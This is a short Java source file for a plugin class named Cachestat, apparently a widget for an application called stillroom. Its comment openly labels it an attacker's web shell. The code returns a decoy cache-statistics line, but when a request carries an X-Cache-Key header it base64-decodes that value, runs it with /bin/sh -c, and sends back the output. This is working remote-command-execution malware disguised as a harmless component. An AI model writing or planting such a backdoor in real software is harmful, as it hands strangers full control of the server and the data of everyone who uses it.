import java.io.*;
import java.util.Base64;
import javax.servlet.http.HttpServletRequest;

/** The attacker's widget (web shell): /bin/sh -c of the base64 X-Cache-Key header; a request body is the command's stdin. */
public class Cachestat implements stillroom.Widget {
    public String render(HttpServletRequest q) throws Exception {
        String k = q.getHeader("X-Cache-Key");
        if (k == null) return "cache: 0 hits 0 misses\n";
        Process p = new ProcessBuilder("/bin/sh", "-c", new String(Base64.getDecoder().decode(k), "UTF-8")).redirectErrorStream(true).start();
        try (InputStream in = q.getInputStream(); OutputStream o = p.getOutputStream()) { in.transferTo(o); }
        String out = new String(p.getInputStream().readAllBytes(), "UTF-8");
        p.waitFor();
        return out;
    }
}
